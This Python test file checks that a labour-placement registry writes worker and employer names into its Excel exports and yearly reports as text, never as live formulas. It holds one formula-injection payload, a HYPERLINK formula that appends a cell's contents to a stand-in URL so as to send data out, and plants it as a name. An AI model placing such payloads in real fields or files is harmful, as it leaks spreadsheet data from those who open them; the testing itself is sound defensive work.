"""Every text cell the registry writes into a workbook is text, never a live formula (issue 17, item 3).

A district or labour office can give a worker any name, and a Chinese office any Vietnamese name to
its employer; those names reach the province's export and both parties' yearly reports. The files
are opened as a reader's spreadsheet would open them: with openpyxl (the cell's data type and value)
and as the sheets' raw XML (no `<f>` element anywhere).
"""

from __future__ import annotations

import io
import re
import zipfile

import httpx
from openpyxl import load_workbook

from tests import plain_http

FORMULA = '=HYPERLINK("http://x?x="&G2,"Xem hồ sơ")'
UPDATE_WORKER = """mutation($input: UpdateWorkerInput!) {
  updateWorker(input: $input) { worker { fullName } errors { field code } } }"""
UPDATE_EMPLOYER = """mutation($input: UpdateEmployerInput!) {
  updateEmployer(input: $input) { employer { nameVi } errors { field code } } }"""
AGREEMENT, YEAR = "AGR-LC-HK", 2024
REPORT_EMPLOYERS = (
    f"query($id: ID!) {{ agreementReport(agreementId: $id, year: {YEAR}) {{ byEmployer {{ nameZh }} }} }}"
)


def _get(live_server, office: str, path: str, purpose: str) -> httpx.Response:
    headers = {"Authorization": f"Bearer {live_server.tokens[office]}", "X-Purpose": purpose}
    response = plain_http.get(f"{live_server.url}{path}", headers=headers, timeout=120)
    assert response.status_code == 200, response.text
    return response


def _formula_elements(content: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")]
        return [n for n in sheets if re.search(rb"<(\w+:)?f[ >/]", book.read(n))]


def _cells_holding(content: bytes, value: str) -> list[tuple[str, str, str]]:
    """(sheet, coordinate, data type) of every cell whose value is `value`."""
    book = load_workbook(io.BytesIO(content))
    return [
        (sheet.title, cell.coordinate, cell.data_type)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value == value
    ]


def test_a_worker_named_like_a_formula_is_a_text_cell_in_the_workers_export(live_server, as_office):
    labour = as_office("lc-home-affairs", "placement-verification")
    worker = labour.data("{ workers(first: 1) { nodes { id fullName } } }")["workers"]["nodes"][0]

    def rename(name: str) -> None:
        answer = labour.data(
            UPDATE_WORKER, {"input": {"workerId": worker["id"], "reason": "name test", "fullName": name}}
        )["updateWorker"]
        assert answer == {"worker": {"fullName": name}, "errors": []}

    rename(FORMULA)
    try:
        content = _get(
            live_server, "lc-home-affairs", "/exports/workers.xlsx", "placement-verification"
        ).content
    finally:
        rename(worker["fullName"])
    cells = _cells_holding(content, FORMULA)
    assert [(sheet, data_type) for sheet, _, data_type in cells] == [("Workers", "s")], cells
    assert _formula_elements(content) == []


def test_an_employer_named_like_a_formula_is_text_in_both_parties_yearly_reports(live_server, as_office):
    china = as_office("cn-hekou", "statistics")
    agreement = next(
        a for a in china.data("{ agreements { id code } }")["agreements"] if a["code"] == AGREEMENT
    )
    in_report = china.data(REPORT_EMPLOYERS, {"id": agreement["id"]})["agreementReport"]["byEmployer"]
    employers = china.data("{ employers(first: 100) { nodes { id nameZh nameVi } } }")["employers"]["nodes"]
    employer = next(e for e in employers if e["nameZh"] == in_report[0]["nameZh"])
    writer = as_office("cn-hekou", "placement-verification")

    def rename(name: str) -> None:
        answer = writer.data(
            UPDATE_EMPLOYER, {"input": {"employerId": employer["id"], "reason": "name test", "nameVi": name}}
        )["updateEmployer"]
        assert answer == {"employer": {"nameVi": name}, "errors": []}

    rename(FORMULA)
    try:
        reports = {
            office: _get(
                live_server, office, f"/reports/agreements/{AGREEMENT}/{YEAR}.xlsx", "statistics"
            ).content
            for office in ("cn-hekou", "lc-home-affairs")
        }
    finally:
        rename(employer["nameVi"])
    for office, content in reports.items():
        cells = _cells_holding(content, FORMULA)
        assert cells, office  # the name is in the report
        assert {data_type for _, _, data_type in cells} == {"s"}, (office, cells)
        assert _formula_elements(content) == [], office
